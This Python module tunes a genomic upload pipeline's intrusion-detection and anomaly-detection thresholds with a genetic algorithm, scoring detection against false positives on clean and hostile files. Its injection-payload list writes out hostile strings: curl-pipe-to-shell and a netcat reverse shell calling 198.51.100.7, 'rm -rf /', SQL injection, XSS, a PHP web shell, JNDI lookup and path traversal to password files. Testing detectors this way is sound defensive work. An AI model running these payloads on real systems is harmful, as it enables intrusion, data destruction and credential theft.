"""Genetic-algorithm optimiser of the security policy's numeric thresholds (pure, no Django).

The genome is eight numbers of the policy (GENES, with their bounds): three AML thresholds,
three IDS limits and the two blocking thresholds. Encryption is deliberately not a gene: the
archive's cipher (Crypt4GH), the staging cipher (AES-256-GCM) and their key sizes are never
traded for detection or speed, so the optimiser cannot even express weakening them.

Fitness is measured, not modelled, on a labelled corpus of real files and attacks built from
real data (build_policy_corpus):

    fitness = detection - 4 * false_positive_rate - 0.01 * seconds_per_mb
              + 0.25 * (attacks_refused - 4 * clean_addresses_blocked)

* detection: share of hostile items that the IDS or the AML stage fails;
* false_positive_rate: share of clean real files that the IDS or the AML stage fails;
* seconds_per_mb: measured IDS + AML time over the corpus, per MB; the AML stage only runs
  when the IDS passed the file (the pipeline stops at the first failure), so a policy that
  fails hostile files early is a little cheaper. A tie-breaker: about 0.0005 here;
* the last term is the blocking simulation (simulate_blocking), averaged over
  BLOCKING_STREAMS small seeded streams: share of hostile uploads of three simulated attackers
  refused because their address was blocked, against the share of the three clean
  laboratories ever blocked, with the same 4x weight on hurting a clean user.

One false positive costs four times what one detection gains: failing a real laboratory's
file is worse than letting one more attack reach the AML stage or analysis.

Everything expensive happens once (PolicyEvaluator.__init__): every item is IDS-scanned and
AML-scored once, and each fitness evaluation re-decides the stored scores
(AmlWindowScores.verdict). The IDS genes are handled exactly, not approximated: an item is
scanned with the strictest and with the loosest limits the bounds allow; failing is monotone
in each of the three IDS genes, so an item failed by the loosest limits fails for every
genome and one passed by the strictest passes for every genome, and only the few items in
between are re-scanned, once per distinct set of limits (memoised).
"""

from __future__ import annotations

import base64
import io
import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import asdict, dataclass, field, fields, replace
from pathlib import Path
from typing import Any

import numpy as np

from analysis.parser import SequenceFileError, iter_records, open_decompressed
from security import adversarial_corpus
from security.aml import AmlConsumer, AmlModel, AmlThresholds, AmlWindowScores, load_aml_model
from security.ids import IdsLimits, scan

# --- genome ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Gene:
    """One tuned number: where it lives in the policy parameters, and its bounds."""

    section: str  # "aml", "ids" or "blocking": the key in SecurityPolicy.parameters
    name: str  # the field of AmlThresholds, IdsLimits or BlockingThresholds
    low: float
    high: float
    integer: bool = False

    @property
    def key(self) -> str:
        return f"{self.section}.{self.name}"

    def clip(self, value: float) -> float | int:
        value = min(max(float(value), self.low), self.high)
        return int(round(value)) if self.integer else round(value, 4)


GENES: tuple[Gene, ...] = (
    # Above the pre-registered 1.53 real genomes hardly ever reach; below 0.8 (about twice
    # the median real window error) a good share of real windows would be flagged.
    Gene("aml", "reconstruction_error", 0.8, 5.0),
    # Random and shuffled sequence scores about 1 (99th percentile 1.9), real windows 1.45
    # to 31: below 1.0 the structure test is off, above 3.0 it flags a sixth of real windows.
    Gene("aml", "structure_score", 1.0, 3.0),
    # Fail when more than this share of an upload's windows is flagged.
    Gene("aml", "max_flagged_fraction", 0.05, 0.9),
    # 0 fails a record on a single stray character; 200 lets a short sentence through.
    Gene("ids", "max_non_iupac_per_record", 0, 200, integer=True),
    # Proteins score about 0.25-0.35; heavily IUPAC-coded real records still above 0.9.
    Gene("ids", "min_nucleotide_fraction", 0.3, 0.98),
    # IdsLimits refuses below 16; beyond 1024 a base64 blob of 768 bytes goes unseen.
    Gene("ids", "min_base64_run", 16, 1024, integer=True),
    # Hostile uploads from one address within the window before it is blocked.
    Gene("blocking", "threats_before_block", 1, 10, integer=True),
    Gene("blocking", "window_minutes", 1, 240, integer=True),
)
"""Not genes, on purpose: encryption (never traded), AML min_windows (the model card's
"too little sequence to assess" floor), the IDS length and control-byte limits (no real file
comes near them, so a corpus cannot measure them) and the block duration and alerting."""

GENE_KEYS = tuple(gene.key for gene in GENES)
_IDS_GENES = tuple(gene for gene in GENES if gene.section == "ids")


Genome = tuple[float | int, ...]
"""Values in GENES order."""


def clip_genome(values: Sequence[float]) -> Genome:
    return tuple(gene.clip(value) for gene, value in zip(GENES, values, strict=True))


def genome_from_parameters(
    *, ids: IdsLimits, aml: AmlThresholds, blocking: Mapping[str, Any]
) -> Genome:
    """The genes of a policy as loaded (values outside the bounds are kept as they are, so an
    existing policy is evaluated as it really is)."""
    sections = {"ids": asdict(ids), "aml": asdict(aml), "blocking": dict(blocking)}
    return tuple(sections[gene.section][gene.name] for gene in GENES)


def parameters_from_genome(genome: Genome, base: Mapping[str, Mapping[str, Any]]) -> dict:
    """SecurityPolicy.parameters: `base` (every field of every section) with the genes set."""
    parameters = {section: dict(values) for section, values in base.items()}
    for gene, value in zip(GENES, genome, strict=True):
        parameters.setdefault(gene.section, {})[gene.name] = value
    return parameters


def describe_genome(genome: Genome) -> dict[str, float | int]:
    return dict(zip(GENE_KEYS, genome, strict=True))


# --- corpus ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class PolicyItem:
    """One upload as the pipeline would receive it (file bytes, possibly gzip)."""

    name: str
    kind: str  # "clean" real file, or the attack class
    hostile: bool
    content: bytes


_VALID_BAD_INPUTS = (
    "01_crlf.fq",
    "03_utf8_bom.fa",
    "05_empty_seq.fa",
    "07_softmasked.fa",
    "11_multiline.fq",
    "14_phred64.fq",
    "16_no_final_newline.fq",
    "16b_no_final_newline.fa",
    "20_blank_lines.fa",
    "23_multimember.fq.gz",
)
"""Awkward but valid inputs from badinputs/CASES.md: a real laboratory may upload them.
18_huge_line.fa is left out: its 200 kb of synthetic, uniformly random bases are exactly what
the AML stage exists to refuse, not a real laboratory's sequence."""

_INJECTION_PAYLOADS = (
    "$(curl http://198.51.100.7/x.sh | sh)",
    "`id`",
    "'; DROP TABLE samples;--",
    "' OR '1'='1",
    "1 UNION SELECT username, password FROM users",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(1)">',
    "../../../../etc/passwd",
    "{{ config.__class__.__init__.__globals__ }}",
    "${jndi:ldap://198.51.100.7/a}",
    "<?php system($_GET['c']); ?>",
    "; rm -rf / --no-preserve-root",
    "| nc -e /bin/sh 198.51.100.7 4444",
    "%2e%2e%2f%2e%2e%2fetc%2fshadow",
)
_REAL_HEADER_STYLES = (
    "NC_045512.2 Severe acute respiratory syndrome coronavirus 2 isolate Wuhan-Hu-1, "
    "complete genome",
    "gi|9626243|ref|NC_001416.1| Enterobacteria phage lambda, complete genome",
    "ENA|MN908947|MN908947.3 Severe acute respiratory syndrome coronavirus 2 isolate Wuhan-Hu-1",
    "A00123:8:HFWGTDSXX:1:1101:10004:10019 1:N:0:ATCACG+GTTTCG",
    "m64011_190830_220126/4194374/ccs np=12 rq=0.9991",
    "0c9d2cb3-5a9c-4d5a-9e1f-2b7c8a9d0e1f runid=7f3a9b2c4d5e6f708192a3b4c5d6e7f8091a2b3c "
    "read=1234 ch=215 start_time=2023-05-04T10:21:33Z flow_cell_id=PAK12345 "
    "sample_id=LIB_2023_05 barcode=barcode07",
    "chr1:1000000-1006500 assembly=GRCh38.p14 strand=+ source=UCSC; note=5' UTR region",
    "contig_17 len=6500 cov=38.2 gc=0.41 md5=9e107d9d372bb6826bd81d3542a419d6",
)
"""Header styles of public archives and instruments (NCBI, ENA, Illumina, PacBio, Nanopore,
UCSC, assemblers) on real sequence: clean items that keep the IDS genes honest."""
_HIDDEN_TEXT = (
    "EXFIL",
    "SELECT PASSWORD",
    "PATIENT ID 4471 SMITH JOHN",
    "THE QUICK BROWN FOX JUMPS OVER THE LAZY DOG",
)
_AML_CLASSES = (
    "random_uniform",
    "random_gc_biased",
    "low_complexity",
    "repeat_expanded",
    "mono_shuffle",
    "di_shuffle",
    "protein_2bit",
    "protein_letter_map",
    "protein_back_translated",
    "text_2bit",
    "text_letter_map",
)
_LINE = 70


def _fasta(records: Sequence[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    for header, sequence in records:
        out.write(b">" + header.encode("latin-1") + b"\n")
        for start in range(0, len(sequence), _LINE):
            out.write(sequence[start : start + _LINE] + b"\n")
    return out.getvalue()


def _read_sequence(path: Path) -> bytes:
    with path.open("rb") as raw:
        return b"N".join(record.sequence for record in iter_records(open_decompressed(raw)))


def _sequence_files(folder: Path) -> list[Path]:
    if not folder.is_dir():
        return []
    suffixes = {".fa", ".fasta", ".fna", ".fq", ".fastq"}
    return sorted(p for p in folder.rglob("*") if p.is_file() and p.suffix in suffixes)


def build_policy_corpus(
    data_dir: Path,
    seed: int,
    *,
    items_per_class: int = 4,
    lengths: Sequence[int] = (6_500, 24_500),
) -> list[PolicyItem]:
    """Clean real files and hostile items made from real data, the same for the same seed.

    Clean: every genome in genomes/ (markers included) and genomes_extra/, the real FASTQ
    files in fastq/, and the awkward but valid inputs of badinputs/. Hostile:
    badinputs/26_injection_header.fa and one real genome segment under each of
    _INJECTION_PAYLOADS; real segments with a line of text hidden among the bases; real
    proteins (from the genomes' open reading frames) as letters, alone and with a share of
    their letters turned into bases; base64 blobs in headers; and `items_per_class` items of
    each length in `lengths` for each AML attack class of security.adversarial_corpus.
    Missing folders are skipped (tests build a slice of the data).
    """
    rng = np.random.default_rng(seed)
    items: list[PolicyItem] = []
    genome_files = _sequence_files(data_dir / "genomes") + _sequence_files(
        data_dir / "genomes_extra"
    )
    for path in [*genome_files, *_sequence_files(data_dir / "fastq")]:
        items.append(PolicyItem(str(path.relative_to(data_dir)), "clean", False, path.read_bytes()))
    bad_inputs = data_dir / "badinputs"
    for name in _VALID_BAD_INPUTS:
        if (bad_inputs / name).is_file():
            items.append(
                PolicyItem(f"badinputs/{name}", "clean", False, (bad_inputs / name).read_bytes())
            )
    if (bad_inputs / "26_injection_header.fa").is_file():
        # Its record 2 (an NCBI pipe header) is clean, but the file as a whole is hostile.
        content = (bad_inputs / "26_injection_header.fa").read_bytes()
        items.append(
            PolicyItem("badinputs/26_injection_header.fa", "injection_header", True, content)
        )

    sources = [
        adversarial_corpus.RealSource(str(path.relative_to(data_dir)), _read_sequence(path))
        for path in genome_files
    ]
    if not sources:
        return items

    def segment(length: int) -> bytes:
        return adversarial_corpus.pick_segment(sources, length, rng)[0]

    for number, header in enumerate(_REAL_HEADER_STYLES):
        content = _fasta([(header, segment(6_500))])
        items.append(PolicyItem(f"header_style_{number}", "clean", False, content))
    for number, payload in enumerate(_INJECTION_PAYLOADS):
        content = _fasta([(f"sample_{number} {payload}", segment(6_500))])
        items.append(PolicyItem(f"injection_{number}", "injection_header", True, content))
    for number, text in enumerate(_HIDDEN_TEXT):
        real = segment(6_500)
        # A line of text between two lines of real bases of the same record.
        lines = _fasta([(f"contig_{number}", real)]).split(b"\n")
        at = int(rng.integers(2, len(lines) - 2))
        content = b"\n".join([*lines[:at], text.encode(), *lines[at:]])
        items.append(PolicyItem(f"hidden_text_{number}", "hidden_text", True, content))
    proteins = adversarial_corpus.real_proteins(sources)
    if proteins:
        for number in range(4):
            protein = proteins[int(rng.integers(len(proteins)))].encode()
            letters = np.frombuffer(protein, np.uint8).copy()
            # 0, then growing shares turned into bases: protein passed off as DNA.
            share = (0.0, 0.4, 0.6, 0.8)[number]
            where = rng.random(len(letters)) < share
            letters[where] = np.frombuffer(b"ACGT", np.uint8)[
                rng.integers(4, size=int(where.sum()))
            ]
            content = _fasta([(f"orf_{number}", letters.tobytes())])
            items.append(PolicyItem(f"protein_{number}", "protein_as_sequence", True, content))
    for number, size in enumerate((24, 60, 150, 400)):
        blob = base64.b64encode(rng.bytes(size)).decode("ascii")
        content = _fasta([(f"read_{number} payload={blob}", segment(6_500))])
        items.append(PolicyItem(f"base64_{number}", "base64_blob", True, content))

    for item in adversarial_corpus.build_corpus(
        sources, seed=seed, items_per_class=items_per_class, lengths=lengths, classes=_AML_CLASSES
    ):
        name = f"{item.attack_class}_{len(items)}"
        items.append(PolicyItem(name, item.attack_class, True, _fasta([(name, item.sequence)])))
    return items


# --- blocking simulation ---------------------------------------------------------------------


@dataclass(frozen=True)
class Upload:
    minute: float
    address: str
    hostile: bool
    flagged: bool  # the upload produces a security event when it is processed


def simulated_uploads(seed: int) -> list[Upload]:
    """A small, seeded eight-hour stream: three attackers and three clean laboratories.

    Attackers: a burst (an upload every 0.5-2 min), a slow one (every 6-12 min) and a
    patient one (every 20-35 min); every hostile upload is flagged. Clean laboratories: a
    quiet one (never flagged), one that retries a flagged file twice within five minutes
    (a user retrying) and once more hours later, and a noisy one whose pipeline writes odd
    headers (a flagged upload every 45-60 min). The trade-off it encodes: threshold 1 or 2
    blocks the retrying laboratory, windows of more than about 90 minutes block the noisy
    one, short windows let the slow attackers through.
    """
    rng = np.random.default_rng(seed)
    uploads: list[Upload] = []

    def stream(address: str, hostile: bool, low: float, high: float, start: float) -> None:
        minute = start
        while minute < 480:
            uploads.append(Upload(minute, address, hostile, hostile))
            minute += float(rng.uniform(low, high))

    stream("attacker-burst", True, 0.5, 2.0, 30.0)
    stream("attacker-slow", True, 6.0, 12.0, 10.0)
    stream("attacker-patient", True, 20.0, 35.0, 5.0)
    for minute in np.sort(rng.uniform(0, 480, size=40)):
        uploads.append(Upload(float(minute), "lab-quiet", False, False))
    retry = float(rng.uniform(60, 120))
    for minute in np.sort(rng.uniform(0, 480, size=30)):
        uploads.append(Upload(float(minute), "lab-retrying", False, False))
    for minute in (retry, retry + float(rng.uniform(1, 4)), retry + 200.0):
        uploads.append(Upload(minute, "lab-retrying", False, True))
    minute = float(rng.uniform(0, 30))
    while minute < 480:
        uploads.append(Upload(minute, "lab-noisy", False, True))
        minute += float(rng.uniform(45, 60))
    return sorted(uploads, key=lambda upload: (upload.minute, upload.address))


@dataclass(frozen=True)
class BlockingOutcome:
    hostile_uploads: int
    hostile_refused: int
    clean_addresses: int
    clean_addresses_blocked: int
    clean_uploads_refused: int

    @property
    def score(self) -> float:
        refused = self.hostile_refused / max(self.hostile_uploads, 1)
        blocked = self.clean_addresses_blocked / max(self.clean_addresses, 1)
        return refused - 4.0 * blocked


def simulate_blocking(
    uploads: Sequence[Upload],
    *,
    threats_before_block: int,
    window_minutes: float,
    block_minutes: float,
) -> BlockingOutcome:
    """Replay `uploads` through the rule of security.events: once an address has
    `threats_before_block` flagged uploads within `window_minutes`, it is refused for
    `block_minutes` (a refused upload is never read, so it raises no event)."""
    flagged_at: dict[str, list[float]] = {}
    blocked_until: dict[str, float] = {}
    ever_blocked: set[str] = set()
    hostile = refused = clean_refused = 0
    for upload in uploads:
        hostile += upload.hostile
        if blocked_until.get(upload.address, -1.0) > upload.minute:
            refused += upload.hostile
            clean_refused += not upload.hostile
            continue
        if not upload.flagged:
            continue
        times = flagged_at.setdefault(upload.address, [])
        times.append(upload.minute)
        recent = sum(1 for minute in times if minute >= upload.minute - window_minutes)
        if recent >= threats_before_block:
            blocked_until[upload.address] = upload.minute + block_minutes
            ever_blocked.add(upload.address)
    clean = {upload.address for upload in uploads if not upload.hostile}
    return BlockingOutcome(
        hostile_uploads=hostile,
        hostile_refused=refused,
        clean_addresses=len(clean),
        clean_addresses_blocked=len(ever_blocked & clean),
        clean_uploads_refused=clean_refused,
    )


# --- fitness ---------------------------------------------------------------------------------

FALSE_POSITIVE_WEIGHT = 4.0
TIME_WEIGHT = 0.01  # per second per MB
BLOCKING_WEIGHT = 0.25
BLOCKING_STREAMS = 5


@dataclass(frozen=True)
class Fitness:
    fitness: float
    detection: float
    false_positive_rate: float
    seconds_per_mb: float
    blocking: float
    hostile_items: int
    clean_items: int
    detected: int
    false_positives: int
    hostile_uploads_refused: float
    clean_addresses_blocked: int  # summed over the BLOCKING_STREAMS simulated streams

    def to_dict(self) -> dict[str, float | int]:
        return {
            name: round(value, 6) if isinstance(value, float) else value
            for name, value in asdict(self).items()
        }


@dataclass
class _Precomputed:
    ids_seconds: float
    aml_seconds: float
    aml_scores: AmlWindowScores | None  # None: the parser refused the file
    ids_always_fails: bool
    ids_never_fails: bool


class PolicyEvaluator:
    """Scores every item once; `evaluate(genome)` then costs milliseconds (memoised)."""

    def __init__(
        self,
        items: Sequence[PolicyItem],
        *,
        base_ids: IdsLimits | None = None,
        base_aml: AmlThresholds | None = None,
        block_minutes: float = 60,
        model: AmlModel | None = None,
        blocking_seed: int = 0,
    ) -> None:
        self.items = list(items)
        self.model = model or load_aml_model()
        self.base_ids = base_ids or IdsLimits()
        self.base_aml = base_aml or AmlThresholds.from_metadata(self.model.metadata)
        self.block_minutes = block_minutes
        # Several streams, so that a window tuned to one stream's lucky gaps does not win.
        self.upload_streams = [
            simulated_uploads(blocking_seed + offset) for offset in range(BLOCKING_STREAMS)
        ]
        self.hostile = np.array([item.hostile for item in self.items], dtype=bool)
        self.megabytes = sum(len(item.content) for item in self.items) / 1e6
        self._ids_cache: dict[tuple, np.ndarray] = {}
        self._fitness_cache: dict[Genome, Fitness] = {}
        loosest = self._ids_limits(
            {
                "max_non_iupac_per_record": 200,
                "min_nucleotide_fraction": 0.3,
                "min_base64_run": 1024,
            }
        )
        strictest = self._ids_limits(
            {"max_non_iupac_per_record": 0, "min_nucleotide_fraction": 0.98, "min_base64_run": 16}
        )
        if self.items:  # the first scan and scoring of a process pay one-off costs
            self._precompute(self.items[0], loosest, strictest)
        self.precomputed = [self._precompute(item, loosest, strictest) for item in self.items]
        self.ambiguous = [
            index
            for index, pre in enumerate(self.precomputed)
            if not pre.ids_always_fails and not pre.ids_never_fails
        ]

    def _ids_limits(self, genes: Mapping[str, float | int]) -> IdsLimits:
        return replace(self.base_ids, **genes)

    def _scan(self, item: PolicyItem, limits: IdsLimits) -> bool:
        """True when the IDS fails the item under `limits`."""
        return not scan(open_decompressed(io.BytesIO(item.content)), limits=limits).passed

    def _precompute(
        self, item: PolicyItem, loosest: IdsLimits, strictest: IdsLimits
    ) -> _Precomputed:
        started = time.perf_counter()
        self._scan(item, self.base_ids)
        ids_seconds = time.perf_counter() - started
        started = time.perf_counter()
        consumer = AmlConsumer(self.model)
        try:
            for record in iter_records(open_decompressed(io.BytesIO(item.content))):
                consumer.add(record)
            scores: AmlWindowScores | None = consumer.scores()
        except SequenceFileError:
            scores = None
        aml_seconds = time.perf_counter() - started
        always = self._scan(item, loosest)
        never = not always and not self._scan(item, strictest)
        return _Precomputed(ids_seconds, aml_seconds, scores, always, never)

    def ids_failed(self, limits: IdsLimits) -> np.ndarray:
        """Which items the IDS fails under `limits` (memoised per distinct limits)."""
        key = tuple(asdict(limits).values())
        cached = self._ids_cache.get(key)
        if cached is not None:
            return cached
        inside = all(
            gene.low <= getattr(limits, gene.name) <= gene.high for gene in _IDS_GENES
        ) and all(
            getattr(limits, name.name) == getattr(self.base_ids, name.name)
            for name in fields(IdsLimits)
            if name.name not in {gene.name for gene in _IDS_GENES}
        )
        if inside:
            failed = np.array([pre.ids_always_fails for pre in self.precomputed], dtype=bool)
            for index in self.ambiguous:
                failed[index] = self._scan(self.items[index], limits)
        else:  # outside what the brackets cover: scan everything
            failed = np.array([self._scan(item, limits) for item in self.items], dtype=bool)
        self._ids_cache[key] = failed
        return failed

    def aml_failed(self, thresholds: AmlThresholds) -> np.ndarray:
        return np.array(
            [
                pre.aml_scores is not None and pre.aml_scores.verdict(thresholds).passed is False
                for pre in self.precomputed
            ],
            dtype=bool,
        )

    def evaluate(self, genome: Genome) -> Fitness:
        genome = tuple(genome)
        cached = self._fitness_cache.get(genome)
        if cached is not None:
            return cached
        values = describe_genome(genome)
        ids_limits = self._ids_limits({gene.name: values[gene.key] for gene in _IDS_GENES})
        thresholds = replace(
            self.base_aml,
            **{gene.name: values[gene.key] for gene in GENES if gene.section == "aml"},
        )
        ids_failed = self.ids_failed(ids_limits)
        rejected = ids_failed | self.aml_failed(thresholds)
        seconds = sum(pre.ids_seconds for pre in self.precomputed) + sum(
            pre.aml_seconds
            for pre, failed in zip(self.precomputed, ids_failed, strict=True)
            if not failed
        )
        outcomes = [
            simulate_blocking(
                uploads,
                threats_before_block=int(values["blocking.threats_before_block"]),
                window_minutes=float(values["blocking.window_minutes"]),
                block_minutes=self.block_minutes,
            )
            for uploads in self.upload_streams
        ]
        blocking_score = float(np.mean([outcome.score for outcome in outcomes]))
        hostile_items = int(self.hostile.sum())
        clean_items = len(self.items) - hostile_items
        detected = int((rejected & self.hostile).sum())
        false_positives = int((rejected & ~self.hostile).sum())
        detection = detected / max(hostile_items, 1)
        false_positive_rate = false_positives / max(clean_items, 1)
        seconds_per_mb = seconds / max(self.megabytes, 1e-9)
        fitness = (
            detection
            - FALSE_POSITIVE_WEIGHT * false_positive_rate
            - TIME_WEIGHT * seconds_per_mb
            + BLOCKING_WEIGHT * blocking_score
        )
        result = Fitness(
            fitness=fitness,
            detection=detection,
            false_positive_rate=false_positive_rate,
            seconds_per_mb=seconds_per_mb,
            blocking=blocking_score,
            hostile_items=hostile_items,
            clean_items=clean_items,
            detected=detected,
            false_positives=false_positives,
            hostile_uploads_refused=sum(outcome.hostile_refused for outcome in outcomes)
            / max(sum(outcome.hostile_uploads for outcome in outcomes), 1),
            clean_addresses_blocked=sum(outcome.clean_addresses_blocked for outcome in outcomes),
        )
        self._fitness_cache[genome] = result
        return result

    @property
    def evaluations(self) -> int:
        """Distinct genomes evaluated so far."""
        return len(self._fitness_cache)

    def false_positives(self, genome: Genome) -> list[str]:
        """Names of the clean items the genome fails (for reports)."""
        values = describe_genome(tuple(genome))
        ids_limits = self._ids_limits({gene.name: values[gene.key] for gene in _IDS_GENES})
        thresholds = replace(
            self.base_aml,
            **{gene.name: values[gene.key] for gene in GENES if gene.section == "aml"},
        )
        rejected = self.ids_failed(ids_limits) | self.aml_failed(thresholds)
        return [
            item.name for item, bad in zip(self.items, rejected & ~self.hostile, strict=True) if bad
        ]


# --- the genetic algorithm -------------------------------------------------------------------


@dataclass(frozen=True)
class GaSettings:
    generations: int = 20
    population: int = 20
    seed: int = 20251104
    tournament_size: int = 3
    elites: int = 2
    crossover_rate: float = 0.9
    mutation_rate: float = 0.25  # per gene
    mutation_scale: float = 0.1  # standard deviation, as a share of the gene's range

    def __post_init__(self) -> None:
        if self.population < 2 or self.generations < 0:
            raise ValueError("population must be at least 2 and generations not negative")
        if not 0 < self.elites < self.population:
            raise ValueError("elites must be between 1 and population - 1")


@dataclass
class GaResult:
    best: Genome
    best_fitness: Fitness
    default: Genome
    default_fitness: Fitness
    history: list[float] = field(default_factory=list)  # best fitness after each generation
    evaluations: int = 0
    seconds: float = 0.0


def run_ga(
    evaluator: PolicyEvaluator,
    *,
    default: Genome,
    also: Sequence[Genome] = (),
    settings: GaSettings = GaSettings(),
    progress: Callable[[int, Fitness], None] | None = None,
) -> GaResult:
    """Seeded GA: tournament selection, uniform or blend crossover per gene, gaussian mutation
    within the bounds, elitism. The (clipped) default genome, and any in `also` (the active
    policy's), are in the first population, so with elitism the best found is never worse
    than them within the bounds. The same evaluator and seed give the same result."""
    started = time.perf_counter()
    rng = np.random.default_rng(settings.seed)

    def fitness_of(genome: Genome) -> float:
        return evaluator.evaluate(genome).fitness

    population = [clip_genome(default), *(clip_genome(genome) for genome in also)]
    population = list(dict.fromkeys(population))[: settings.population]
    while len(population) < settings.population:
        population.append(clip_genome([rng.uniform(gene.low, gene.high) for gene in GENES]))
    history: list[float] = []
    for generation in range(settings.generations + 1):
        # Stable sort on fitness: ties keep their order, so the run is reproducible.
        ranked = sorted(population, key=fitness_of, reverse=True)
        history.append(fitness_of(ranked[0]))
        if progress is not None:
            progress(generation, evaluator.evaluate(ranked[0]))
        if generation == settings.generations:
            break
        scores = [fitness_of(genome) for genome in population]
        children = ranked[: settings.elites]
        while len(children) < settings.population:
            first = _tournament(population, scores, settings.tournament_size, rng)
            second = _tournament(population, scores, settings.tournament_size, rng)
            child = (
                _crossover(first, second, rng) if rng.random() < settings.crossover_rate else first
            )
            children.append(_mutate(child, settings, rng))
        population = children
    best = ranked[0]
    return GaResult(
        best=best,
        best_fitness=evaluator.evaluate(best),
        default=tuple(default),
        default_fitness=evaluator.evaluate(tuple(default)),
        history=history,
        evaluations=evaluator.evaluations,
        seconds=time.perf_counter() - started,
    )


def _tournament(
    population: list[Genome], scores: list[float], size: int, rng: np.random.Generator
) -> Genome:
    picked = rng.choice(len(population), size=min(size, len(population)), replace=False)
    winner = max(picked, key=lambda index: (scores[index], -index))
    return population[int(winner)]


def _crossover(first: Genome, second: Genome, rng: np.random.Generator) -> Genome:
    """Per gene: half the time one parent's value (uniform), otherwise a blend (BLX-0.25)."""
    child = []
    for a, b in zip(first, second, strict=True):
        if rng.random() < 0.5:
            child.append(a if rng.random() < 0.5 else b)
        else:
            weight = rng.uniform(-0.25, 1.25)
            child.append(weight * a + (1 - weight) * b)
    return clip_genome(child)


def _mutate(genome: Genome, settings: GaSettings, rng: np.random.Generator) -> Genome:
    values = list(genome)
    for index, gene in enumerate(GENES):
        if rng.random() < settings.mutation_rate:
            step = rng.normal(0.0, settings.mutation_scale * (gene.high - gene.low))
            if gene.integer and abs(step) < 1:
                step = 1.0 if step >= 0 else -1.0  # an integer gene must be able to move
            values[index] = values[index] + step
    return clip_genome(values)
